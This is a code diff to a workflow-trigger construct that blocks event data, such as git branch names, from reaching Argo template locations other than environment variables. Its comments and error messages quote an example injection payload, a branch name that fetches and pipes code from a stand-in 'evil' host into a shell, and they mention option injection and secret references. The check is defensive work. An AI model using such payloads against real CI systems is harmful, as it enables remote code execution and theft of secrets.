@@ -96,10 +96,11 @@ export interface WorkflowTriggerOptions {
   readonly name?: string;
 
   /**
-   * Let event data reach a template's `script.source` or the script of a `sh -c`. Risky: Argo
-   * substitutes `{{…}}` as text, so whoever can send an event (a git push with a crafted branch
-   * name such as `x";curl${IFS}evil|sh;"`) runs code in the profile namespace. Pass values as
-   * environment variables or positional arguments instead (see the error message).
+   * Let event data reach a template anywhere but an environment variable (`script.source`, a
+   * `sh -c` script, command arguments, `when`, ...). Risky: Argo substitutes `{{…}}` as text, so
+   * whoever can send an event (a git push with a crafted branch name such as
+   * `x";curl${IFS}evil|sh;"`) runs code in the profile namespace. Pass values as environment
+   * variables instead (see the error message and lib/kubeflow/shell-sinks.ts).
    * @default false
    */
   readonly allowShellInterpolation?: boolean;
@@ -207,8 +208,8 @@ export class WorkflowTrigger extends Construct {
       const sink = allowShell ? undefined : template.shellSinks(paramNames)[0];
       if (sink) {
         fail(at(`parameters.${sink.parameter}`), params[sink.parameter].description,
-          `would become code: WorkflowTemplate "${template.name}" puts it into the ${sink.location} of template "${sink.template}", and Argo substitutes {{…}} as text, so a crafted event (e.g. a branch named x";curl\${IFS}evil|sh;") runs commands as the workflow's service account`,
-          'pass it as data: an environment variable (env: [{ name: "BRANCH", value: "{{inputs.parameters.branch}}" }], then "$BRANCH" in the script) or a positional argument after the script (args: [\'git clone --branch "$1" …\', "sh", "{{inputs.parameters.branch}}"]); or set allowShellInterpolation: true if the event source is trusted');
+          `would be read as more than data: WorkflowTemplate "${template.name}" puts it into ${sink.location} of template "${sink.template}", and Argo substitutes {{…}} as text, so a crafted event (a branch named x";curl\${IFS}evil|sh;", an option like --upload-pack=…, a $(SECRET) reference) runs commands or leaks secrets as the workflow's service account`,
+          'pass it only as an environment variable (env: [{ name: "BRANCH", value: "{{inputs.parameters.branch}}" }], then "$BRANCH" in the script), listed before any env entry valueFrom a Secret; or set allowShellInterpolation: true if the event source is trusted');
       }
       const branches = props.branches === undefined ? undefined : checkList(at('branches'), props.branches, checkBranch);
       if (branches && source.type === 'webhook') {
